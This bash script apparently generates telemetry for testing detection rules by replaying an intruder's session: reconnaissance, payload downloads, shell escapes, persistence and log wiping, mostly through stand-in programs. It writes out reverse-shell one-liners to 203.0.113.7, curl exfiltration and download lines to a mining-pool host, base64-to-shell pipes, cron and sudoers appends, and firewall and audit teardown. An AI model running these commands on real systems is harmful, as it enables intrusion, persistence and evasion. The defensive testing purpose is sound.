# An attacker's afternoon, command by command, as someone does it who got a shell: what detection rules look for. Each
# is harmless: the names it asks for are not there. Programs that a machine lacks, and those of other systems, are stood
# in for: a copy of another program under that name, which is all that an event and a rule see of it.
#
#   capsule run --policy afternoon.yaml -- bash afternoon.sh
set -u
mkdir -p brought parents loot
export HOME="$PWD/loot" PATH="/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin:$PWD/brought"
shell=$(readlink -f "$(command -v dash || command -v bash)")

try() { timeout 10 "$@" </dev/null >/dev/null 2>&1; }
# NAME WORDS...: a program under that name that does nothing, brought along
brought() {
    local name=$1 && shift
    [ -e "brought/$name" ] || { cp "$(readlink -f /usr/bin/true)" "brought/$name" && echo "stand-in $name"; }
    try "$PWD/brought/$name" "$@"
}
# the machine's own, or brought along
use() {
    local name=$1 && shift
    if command -v "$name" >/dev/null && [ ! -e "brought/$name" ]; then try "$name" "$@"; else brought "$name" "$@"; fi
}
# NAME SCRIPT WORDS...: a shell under that name, as a parent of what it runs
parent() {
    local name=$1 && shift
    [ -e "parents/$name" ] || { cp "$shell" "parents/$name" && echo "stand-in $name"; }
    try "$PWD/parents/$name" -c "$@"
}

# Who and where am I
try id
try uname -a
try hostname
use lspci
try groups
try cat /etc/passwd /etc/group
try cat /etc/sudoers
use lastlog
use who
use netstat -an
use ip addr
use arp -a
use ping -c 1 127.0.0.1
try grep -E x86_64 /proc/cpuinfo
try sh -c "uname -m | grep x86_64"
try cat /proc/1/cgroup
try ls -la /.dockerenv
try grep falcond loot
try ls -id /
try find / -maxdepth 1 -perm -4000
try find . -maxdepth 1 -name .htpasswd
try find . -exec /bin/sh -c true \;
use getcap -r loot
try cat loot/.bash_history
try env /bin/sh -c true
try cat -A "a > b" /etc/crontab

# Something from outside, and run
try curl -sS -m 3 https://pool.minexmr.com/x -o loot/x
try curl -sS -m 3 -A Mozilla https://pool.minexmr.com/x
try curl -sS -m 3 --data @/etc/hostname https://pool.minexmr.com/in
try curl -sS -m 3 https://x1.localto.net/x
try curl -sS -m 3 https://a.tunnel.us.ngrok.com/x
use wget -q -T 3 -t 1 -O /tmp/payload https://pool.minexmr.com/x
try sh -c "/usr/bin/curl -sS -m 3 https://pool.minexmr.com/x -o /tmp/y"
try sh -c "echo aWQK | base64 -d | sh"
try bash -c "echo IyEvYmluL2Jhc2gK | base64 -d | bash "
try env https_proxy=http://127.0.0.1:1 true
use git clone https://pool.minexmr.com/CVE-2021-4034
try cp /usr/bin/true /tmp/dropped
try /tmp/dropped
try cp /usr/bin/true /dev/shm/dropped
try /dev/shm/dropped
try cp "$shell" /tmp/dropper
try /tmp/dropper -c "bash -c true"
try bash -c "touch /tmp/y"
try chmod 755 /tmp/dropped
use nohup /tmp/dropped
try mkfifo /tmp/pipe
try touch -t 202001010000 loot/x.service
try touch "loot/{echo,aWQK}|{base64,-d}|bash"

# Shells out of other programs
try awk 'BEGIN {system("/bin/sh -c true")}'
try nice -n 1 /bin/sh
try flock -u loot /bin/sh
use capsh --
brought gcc -wrapper /bin/sh,-s .
brought vim -c ":!/bin/sh" -c ":qa!"
use ssh -o ConnectTimeout=1 -o "ProxyCommand=;sh 0<&2 1>&2" x
use rsync -e "/bin/sh -c true" x localhost:y
parent rsync "sh -c true"
parent git "bash -c 'true 0<&1'; sh -c 'bash 0<&1'" -p help
use apt-get update -o 'APT::Update::Pre-Invoke::=/bin/true'
try perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in(4444,inet_aton("203.0.113.7")))){open(STDIN,">&S");exec("sh -i")}'
try python3 -c 'import base64; exec(base64.b64decode("cGFzcw=="))'
try python3 -c 'import socket; import pty; s=socket.socket(); s.settimeout(2); s.connect(("203.0.113.7",4444)); pty.spawn("/bin/sh")'
try python3 -c 'import os; os.system("/bin/sh -c true")'
try timeout 1 python3 -m http.server 8099
use ruby -rsocket -e 'exit if fork;c=TCPSocket.new("203.0.113.7",4444); sh' x -e -rsocket
use php -r '$s=fsockopen("203.0.113.7",4444);exec("sh -i");'
brought nc -e /bin/sh 203.0.113.7 4444
brought xterm -display 203.0.113.7:1
try bash -c "exec 3<>/dev/tcp/203.0.113.7/443"
try bash -c "exec 3<>/dev/tcp/203.0.113.7/4444"
try bash -i -c "true" -i x
parent java "curl --version; /bin/sh -c true"
parent nginx "whoami; cat /etc/hostname"
parent node "sh -c 'echo trufflehog'"
(exec -a bash bash -c 'exec -a bash bash -i' <<<'python3 -c "import base64"; whoami' >/dev/null 2>&1)

# To stay
for place in /etc/cron.d/x /etc/sudoers.d/x /etc/doas.conf /etc/profile.d/x.sh /etc/crontab; do
    try sh -c "echo '* * * * * root id' >> $place"
done
try touch /tmp/rootlog loot/ebpfbackdoor
use crontab -l
use crontab -r
use crontab /tmp/x
use at now
try chmod u+s /tmp/dropped
try sh -c "chown root /tmp/dropped; chmod u+s /tmp/dropped"
use setcap cap_setuid+ep loot/none
use setcap cap_setgid+ep loot/none
use usermod -aG root nobody-of-that-name
use userdel nobody-of-that-name
use groupdel nobody-of-that-name
use update-ca-certificates --help
use mount -o remount,hidepid=2 none loot/none
use doas -n true
use sudo -n --chroot loot/none true
brought sudo -n execve_hijack
brought sudo -n tc qdisc add dev enp0s3 clsact
use bpftrace --unsafe -l
brought sh -c "echo 1 > /sys/kernel/debug/tracing/events/kprobes/myprobe/enable"
use chattr -i loot/none
try cp /etc/passwd /tmp/passwd
use xclip -sel clip -o
use trufflehog --version
brought linpeas.sh
brought nmap -sT 127.0.0.1
brought xmrig --donate-level=0 -o stratum+tcp://pool.minexmr.com:443
brought pnscan -W "47 45 54" x
brought amazon-ssm-agent -register -code x -id y -region z

# Away with what saw it
use systemctl stop no-such.service
use systemctl stop firewalld-of-no-machine
use systemctl stop kesl-of-no-machine
use systemctl mask suspend.target --root=loot/none
brought ufw disable
brought iptables -F ufw-logging-deny
brought auditctl -D
use dpkg --remove no-such-package
brought apt install nmap-of-no-archive
try rm -f loot/.bash_history
try rm -f /var/log/no-such.log
try rm -f /var/log/syslog-of-no-machine
try dd if=/dev/zero of=loot/zero count=1
try dd if=loot/zero of=/proc/1/mem count=1
try sed -n 1p /etc/hosts
try shred -u loot/zero
brought grep sshd.sh

# Of a hypervisor, and of a remote desktop
brought esxcli network ip interface list
brought esxcli storage core device list
brought esxcli system version get
brought esxcli system account add -i x
brought esxcli system permission set -r Admin
brought esxcli system syslog config set
brought esxcli vm process list
brought esxcli vm process kill -w 1
brought esxcli vsan cluster list
[ -e brought/TeamViewer_Desktop ] || cp "$(readlink -f /usr/bin/true)" brought/TeamViewer_Desktop
parent TeamViewer_Service "$PWD/brought/TeamViewer_Desktop --IPCport 5939 --Module 1; true"
exit 0
